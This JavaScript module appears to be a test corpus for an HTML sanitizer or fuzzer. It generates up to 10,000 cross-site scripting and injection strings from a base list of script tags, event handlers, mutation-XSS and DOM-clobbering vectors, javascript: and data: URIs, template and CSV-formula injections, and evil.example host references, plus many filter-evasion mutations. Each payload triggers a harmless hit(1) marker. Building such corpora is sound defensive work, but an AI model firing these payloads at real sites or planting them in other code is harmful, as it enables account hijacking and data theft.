// Texts that become script wherever a text is taken for markup, an address, or a pattern. Each that runs calls `hit`.

const BASE = String.raw`
<script>hit(1)</script>
</script><script>hit(1)</script>
<script src=data:text/javascript,hit(1)></script>
<script type=module>hit(1)</script>
<img src=x onerror=hit(1)>
<img src=x onerror="hit(1)"//
"><img src=x onerror=hit(1)>
'><img src=x onerror=hit(1)>
<svg onload=hit(1)>
<svg/onload=hit(1)>
<svg><script>hit(1)</script></svg>
<svg><animate onbegin=hit(1) attributeName=x dur=1s>
<svg><set onbegin=hit(1) attributename=x>
<svg><a xlink:href="javascript:hit(1)"><text x=20 y=20>x</text></a>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hit(1)</script></svg>#x"/>
<svg><foreignObject><iframe srcdoc="<script>parent.hit(1)</script>"></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">
<math><mi//xlink:href="data:x,<script>hit(1)</script>">
<math><annotation-xml encoding="text/html"><img src=x onerror=hit(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>
<body onload=hit(1)>
<body onpageshow=hit(1)>
<iframe onload=hit(1)>
<iframe src=javascript:parent.hit(1)>
<iframe srcdoc="<img src=x onerror=parent.hit(1)>">
<iframe src="data:text/html,<script>parent.hit(1)</script>">
<object data="data:text/html,<script>parent.hit(1)</script>">
<object data=javascript:hit(1)>
<embed src=javascript:hit(1)>
<video src=x onerror=hit(1)>
<video><source onerror=hit(1)></video>
<audio src=x onerror=hit(1)>
<details open ontoggle=hit(1)>x</details>
<input autofocus onfocus=hit(1)>
<select autofocus onfocus=hit(1)>
<textarea autofocus onfocus=hit(1)>
<button autofocus onfocus=hit(1)>x
<marquee onstart=hit(1)>x</marquee>
<div onpointerover=hit(1) style=position:fixed;inset:0>x</div>
<div style="animation:x 1s" onanimationstart=hit(1)>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=hit(1)>
<style>@import 'data:text/css,*{background:url(javascript:hit(1))}';</style>
<link rel=stylesheet href="data:text/css,*{color:red}" onload=hit(1)>
<link rel=preload as=script href=data:text/javascript,hit(1) onload=hit(1)>
<meta http-equiv=refresh content="0;url=javascript:hit(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href="https://evil.example/">
<base href="javascript:/a/-hit(1)///////">
<a href="javascript:hit(1)">x</a>
<a href="jav&#x09;ascript:hit(1)">x</a>
<a href="&#1;javascript:hit(1)">x</a>
<form action=javascript:hit(1)><input type=submit>
<form><button formaction=javascript:hit(1)>x
<isindex type=image src=1 onerror=hit(1)>
<template><script>hit(1)</script></template>
<template shadowrootmode=open><img src=x onerror=hit(1)></template>
<slot onslotchange=hit(1)>
<noscript><p title="</noscript><img src=x onerror=hit(1)>">
<title><img src=x onerror=hit(1)></title>
<textarea></textarea><img src=x onerror=hit(1)>
<xmp></xmp><img src=x onerror=hit(1)>
<plaintext><img src=x onerror=hit(1)>
<!--><img src=x onerror=hit(1)>-->
<!--<img src="--><img src=x onerror=hit(1)//">
<![CDATA[><img src=x onerror=hit(1)>]]>
]]><img src=x onerror=hit(1)>
<?xml version="1.0"?><img src=x onerror=hit(1)>
<x contenteditable onfocus=hit(1) autofocus tabindex=1>
<x onclick=hit(1) id=h>
<h1 id=h>x</h1>
<a id=app><a id=app name=icons href=https://evil.example/>
<form id=app><input name=attributes><input name=childNodes>
<form name=body><input id=firstChild></form>
<img name=getElementById>
<img id=currentScript name=cookie>
<a id=wasm href="https://evil.example/x.wasm">
<a id=content href=//evil.example/x.bin>
<iframe name=trustedTypes></iframe>
javascript:hit(1)
JaVaScRiPt:hit(1)
java	script:hit(1)
javascript://%0ahit(1)
vbscript:hit(1)
data:text/html,<script>hit(1)</script>
data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=
//evil.example/x.js
https://gemeente.example@evil.example/
blob:https://evil.example/x
file:///etc/passwd
tel:*#06#
tel:112;ext=1
mailto:x?bcc=y&body=%0ABcc:z
';hit(1);//
";hit(1);//
\';hit(1);//
hit(1)
{{constructor.constructor('hit(1)')()}}
\${hit(1)}
#{hit(1)}
<%= hit(1) %>
{ $naam }
{ $aantal -> [one] x *[other] <img src=x onerror=hit(1)> }
{ -term }
{ plan-title }
{"{"}
}{
%s%n%x
=cmd|' /C calc'!A0
@SUM(1)
__proto__
constructor
[object Object]
&lt;img src=x onerror=hit(1)&gt;
&#60;img src=x onerror=hit(1)&#62;
\u003cimg src=x onerror=hit(1)\u003e
%3Cimg%20src=x%20onerror=hit(1)%3E
+ADw-script+AD4-hit(1)+ADw-/script+AD4-
＜img src=x onerror=hit(1)＞
`.split("\n").filter(Boolean);

/** What cannot be written in a list. */
const ODD = [
  "\u202E>)1(tih=rorreno x=crs gmi<", "\u2066<img src=x onerror=hit(1)>", "<img\u0000src=x onerror=hit(1)>",
  "<img\u000Csrc=x\u000Conerror=hit(1)>", "\uFEFF<script>hit(1)</script>", "<scr\u0000ipt>hit(1)</scr\u0000ipt>",
  "\u2028hit(1)\u2029", "\u{E0041}\u{E0042}<svg onload=hit(1)>", "<\u017Fcript>hit(1)</\u017Fcript>", "\uD83D",
  "\u200B<svg onload=hit(1)>", "e\u0301".repeat(50),
];

const swap = (text) => text.replace(/<([a-z]+)/gi, (_, tag) =>
  `<${[...tag].map((letter, index) => index % 2 ? letter.toUpperCase() : letter.toLowerCase()).join("")}`);

/** Ways around filters. */
const MUTATIONS = [
  (text) => text,
  swap,
  (text) => text.toUpperCase().replaceAll("HIT(1)", "hit(1)"),
  (text) => text.replace(/<(\w+) /g, "<$1/"),
  (text) => text.replace(/<(\w+) /g, "<$1\f"),
  (text) => text.replace(/<(\w+)/g, "<$1 x='>' y="),
  (text) => text.replaceAll("hit(1)", "hit`1`"),
  (text) => text.replaceAll("hit(1)", "top['h'+'it'](1)"),
  (text) => text.replaceAll("hit(1)", "\\u0068it(1)"),
  (text) => text.replaceAll("hit(1)", "hit&#40;1&#41;"),
  (text) => text.replaceAll("=", " = "),
  (text) => text.replaceAll(">", ">>").replaceAll("<", "<<"),
  (text) => text.replace(/javascript:/gi, "java&Tab;script&colon;"),
  (text) => `"'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `--!>${text}`,
  (text) => `]]>${text}`,
  (text) => `<p title="${text}">`,
  (text) => `<p title='${text}'>`,
  (text) => `<svg><desc>${text}</desc></svg>`,
  (text) => `<math><mtext>${text}</mtext></math>`,
  (text) => `<select><option>${text}</option></select>`,
  (text) => `<table><td>${text}`,
  (text) => `<noscript>${text}</noscript>`,
  (text) => `<template>${text}</template>`,
  (text) => `<b onclick="">${text}</b>`,
  (text) => `Anna ${text} van ’t Hek`,
  (text) => `{ ${text} }`,
  (text) => `{"${text}"}`,
  (text) => `\u2068${text}\u2069`,
  (text) => `\u202E${text}`,
  (text) => encodeURIComponent(text.isWellFormed() ? text : "x"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&amp;lt;"),
  (text) => `${text}${text}`,
  (text) => text.split("").join("\u200B"),
  (text) => `${"x".repeat(300)}${text}`,
  (text) => `\\${text}`,
  (text) => text.slice(0, -1),
  (text) => text.slice(1),
];

/** How many there are to begin with. */
export const FIRST = BASE.length + ODD.length;

/** How many there are in the end. */
const ALL = 10_000;

/** Every text in every way, and then in two ways: the same list each time, in which neighbours differ. */
export const PAYLOADS = (() => {
  const found = new Set();
  const ways = [...MUTATIONS, ...MUTATIONS.flatMap((one) => MUTATIONS.slice(1).map((other) => (text) => other(one(text))))];
  for (const way of ways) {
    for (const text of [...BASE, ...ODD].map(way)) {
      if (text.trim() && text.length < 800 && found.size < ALL) found.add(text);
    }
  }
  return [...found];
})();
